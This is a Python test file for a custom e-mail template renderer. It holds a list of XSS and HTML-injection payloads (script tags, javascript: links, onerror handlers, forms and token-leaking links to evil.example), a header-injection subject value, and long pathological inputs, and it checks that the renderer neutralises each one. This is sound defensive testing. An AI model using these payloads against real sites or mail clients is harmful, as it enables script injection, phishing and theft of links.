"""E-mails from custom templates, including hostile ones."""

import time
from dataclasses import replace
from html.parser import HTMLParser
from typing import Any

import pytest

from chalicelib.emails import render, samples
from chalicelib.emails.kinds import KINDS, declaration
from chalicelib.rules.email_templates import faults
from chalicelib.rules.letters import Letter, TemplateText
from chalicelib.rules.messages import Content, EmailKind
from chalicelib.rules.sessions import Session
from tests.samples import LINK, NOW, ORGANISATION, REGISTRATION, SESSION, UNSUBSCRIBE_LINKS, letter

EVERY = [(kind, locale) for kind in KINDS for locale in ("en", "fr")]
REASON = "You get this e-mail because Atelier Lumière invited this address to one of its sessions."


def worded(body: str, subject: str = "Hello", kind: EmailKind = "session_invitation", **wanted: Any) -> Content:
    assert faults(declaration(kind).placeholders, TemplateText(subject, body)) == []
    return render.write(letter(kind, custom_text=TemplateText(subject, body), **wanted), now=NOW).content


def told(body: str, kind: EmailKind = "session_invitation") -> list[str]:
    shown = samples.sample(kind, ORGANISATION, "en", TemplateText("Hello", body), now=NOW)
    assert shown.custom
    return [notice.code for notice in shown.custom.notices]


class Seen(HTMLParser):
    """An e-mail as a mail program parses it: tags with attributes, the tags open at the unsubscribe link, and the text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.around_unsubscribe_link: list[str] | None = None
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if dict(attrs).get("href") == UNSUBSCRIBE_LINKS.page:
            self.around_unsubscribe_link = list(self.open)
        if tag not in {"br", "hr", "img", "meta"}:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize(("kind", "locale"), EVERY)
def test_the_default_text_can_be_taken_over(kind: EmailKind, locale: str) -> None:
    default = samples.default_text(kind, ORGANISATION, locale, now=NOW)
    assert faults(declaration(kind).placeholders, default) == []
    shown = samples.sample(kind, ORGANISATION, locale, default, now=NOW)
    assert shown.custom
    assert shown.custom.notices == []
    assert "{" not in shown.content.text + shown.content.subject
    assert render.write(letter(kind, locale, custom_text=default), now=NOW).content.text.splitlines()[:2] == [LINK, ""]


def test_names_are_filled_in_and_the_rest_is_as_it_was_written() -> None:
    content = worded("# Come!\n\n{{spots}} for *you*\nuntil **{{held_until}}**\n\n[I come]({{link}})\n\n- one\n- two", "{{session_title}}?")
    assert content.subject == "Pottery?"
    assert content.text.splitlines() == [
        LINK,
        "",
        "Come!",
        "",
        "2 spots for you",
        "until Sunday 29 November 2026, 13:00 (Europe/Paris)",
        "",
        f"I come: {LINK}",
        "",
        "- one",
        "- two",
        "",
        "--",
        "Atelier Lumière",
        REASON,
        f"Unsubscribe from invitations: {UNSUBSCRIBE_LINKS.page}",
    ]
    assert "<em>you</em><br>" in content.html
    assert content.html.count(LINK) == 3, "a button, and the bare link with its address"
    assert told("x {{link}}") == []


def test_facts_stand_between_paragraphs_and_in_a_line() -> None:
    content = worded("Here: {{details}} and on\n\n{{link}}\n\n> {{session_dates}}, {{session_place}}, {{price}}")
    assert "Where: 12 rue des Lilas\nPrice: 2 × €12.50 = €25.00 and on" in content.text
    assert "Tuesday 1 December 2026, 16:00–17:30 (Europe/Paris), 12 rue des Lilas, 2 × €12.50 = €25.00" in content.text
    assert '<th scope="row"' in content.html
    assert '<p style="margin:0 0 14px;font-size:16px;line-height:25px;"></p>' not in content.html


def test_names_are_never_markup() -> None:
    nasty = '<img src=x onerror=alert(1)>{{link}} **b** & "q"'
    registration = REGISTRATION.__class__(
        **{**{name: getattr(REGISTRATION, name) for name in REGISTRATION.__dataclass_fields__}, "name": nasty}
    )
    content = worded(
        "<p title='{{customer_name}}'>Dear {{customer_name}}</p><img alt='{{customer_name}}' src='https://e.example/a.png'>",
        "To {{customer_name}}",
        "confirmation",
        registration=registration,
    )
    assert content.subject == f"To {nasty}"
    assert f"Dear {nasty}" in content.text
    seen = Seen(content.html)
    assert f"Dear {nasty}" in seen.text
    assert {"alt": nasty, "src": "https://e.example/a.png", "style": "max-width:100%;height:auto;border:0;"} in [
        a for t, a in seen.tags if t == "img"
    ]
    assert not any(name.startswith("on") for _, attributes in seen.tags for name in attributes)


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<p onclick=alert(1) OnMouseOver='x'>a</p>",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href=' java\tscript:alert(1)'>a</a>",
    "<a href='&#106;avascript:alert(1)'>a</a>",
    "[a](javascript:alert(1)) ![a](data:text/html,x) <javascript:alert(1)>",
    "<img src=x onerror=alert(1)><img src='data:image/svg+xml,x'>",
    "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<svg><script>alert(1)</script><a xlink:href='javascript:x'>a</a></svg><math><mtext><style>x</style></mtext></math>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'><link rel=stylesheet href=x>",
    "<style>div{display:none}</style><div style='position:fixed;top:0;background:url(https://evil.example);width:9999px'>a</div>",
    "<p style='color:red;margin-bottom:-500px;background-color:url(javascript:1);font-weight:expression(alert(1))'>a</p>",
    "</div></div></body></html><!-- ",
    "<div style='display:none'><table><tr><td><b><textarea><title><plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--[if mso]><script>alert(1)</script><![endif]--><![CDATA[<script>]]>",
    "<a title='>{{details}}<' href='{{customer_name}}'>a</a><{{link}} {{link}}={{link}}>",
    "<a href='https://evil.example/?t={{link}}'>a</a><img src='https://evil.example/{{link}}/{{customer_name}}'>",
    "[a](https://evil.example/{{link}}) ![a](<https://evil.example/?{{customer_name}}>)",
]


@pytest.mark.parametrize("body", HOSTILE)
@pytest.mark.parametrize("before", ["", "Text first\n\n"], ids=["HTML", "Markdown"])
def test_nothing_runs_nothing_leaves_and_the_small_print_stays(body: str, before: str) -> None:
    content = worded(before + body)
    seen = Seen(content.html)
    assert seen.open == []
    assert seen.around_unsubscribe_link == ["html", "body", "div", "div", "p"]
    allowed = {
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "div",
        "p",
        "h1",
        "table",
        "tbody",
        "tr",
        "th",
        "td",
        "a",
        "b",
        "br",
        "img",
        "span",
    }
    assert {tag for tag, _ in seen.tags} <= allowed
    assert sum(tag == "meta" for tag, _ in seen.tags) == 4
    assert sum(tag == "style" for tag, _ in seen.tags) == 1, "the layout's own"
    assert not any(name.startswith("on") for _, attributes in seen.tags for name in attributes)
    for _, attributes in seen.tags:
        for name in ("href", "src"):
            address = attributes.get(name)
            assert address is None or address in {LINK, UNSUBSCRIBE_LINKS.page}, address
        style = attributes.get("style") or ""
        assert not [part for part in ("url(", "expression", "position", "fixed", "-500px") if part in style]
    assert seen.text.rstrip().endswith("Unsubscribe from invitations")
    assert content.text.startswith(LINK + "\n\n")
    assert content.text.endswith(f"{REASON}\nUnsubscribe from invitations: {UNSUBSCRIBE_LINKS.page}\n")


def test_a_link_that_is_missing_or_not_to_be_followed_is_appended() -> None:
    for body in ("Come.", "<p>Come.</p><a href='https://evil.example/{{link}}'>x</a>", "<p title='{{link}}'>Come.</p>"):
        content = worded(body)
        assert [tag["href"] for name, tag in Seen(content.html).tags if name == "a" and "href" in tag][:2] == [LINK, LINK]
        assert f"Register: {LINK}" in content.text
        assert "link_appended" in told(body)


def test_text_of_staff_is_never_lost() -> None:
    content = worded("News.\n\n{{link}}", "{{message_subject}}", "roster_message")
    assert content.subject == "Bring a towel"
    assert "please bring:\na towel\na cup" in content.text
    assert "please bring:<br>" in content.html
    assert told("News.\n\n{{link}}", "roster_message") == ["message_appended"]


def test_removed_markup_is_reported() -> None:
    shown = samples.sample(
        "confirmation",
        ORGANISATION,
        "en",
        TemplateText("Hello", "<p onclick=x>{{link}}<script>x</script><a href=javascript:x>a</a>"),
        now=NOW,
    )
    assert shown.custom
    assert shown.custom.notices[0].code == "html_removed"
    assert shown.custom.notices[0].detail.endswith(": <script>, onclick of <p>, href of <a>.")


def test_a_subject_is_one_line_with_any_values() -> None:
    content = worded("{{link}}", "{{session_title}} {{session_place}}", session=_called("Judo\r\nBcc: eve@example.org"))
    assert content.subject == "Judo Bcc: eve@example.org 12 rue des Lilas"
    assert worded("{{link}}", "{{session_place}}", session=_called("Judo", location="")).subject == "Atelier Lumière invites you to Judo"


def _called(title: str, location: str = SESSION.location) -> Session:
    return replace(SESSION, title=title, location=location)


def test_a_template_of_another_time_still_leaves() -> None:
    """An outdated placeholder is left empty, and the e-mail is sent."""
    wording = TemplateText("{{gone}} Hello {{", "Dear {{gone}}, {{link}} }}")
    content = render.write(letter("password_reset", custom_text=wording), now=NOW).content
    assert content.subject == "Hello"
    assert f"Dear , {LINK}" in content.text


@pytest.mark.parametrize(
    "body",
    [
        "[" * 20000,
        "![[" * 6600,
        "*a_" * 6600,
        "> " * 9900,
        "<div>" * 4000,
        "<p " * 6600,
        "<a href='" * 2200,
        "<!--" * 5000,
        "{{link}}" * 2500,
    ],
)
def test_no_body_takes_long(body: str) -> None:
    began = time.process_time()
    worded(body)
    assert time.process_time() - began < 5


def test_the_secret_is_blanked_in_what_is_kept() -> None:
    written_letter: Letter = letter(
        "password_reset", custom_text=TemplateText("Hello", "[Go]({{link}})"), link=LINK + "/secret", secrets=("secret",)
    )
    kept = render.write(written_letter, now=NOW).content.blanked(written_letter.secrets)
    assert "secret" not in kept.text + kept.html
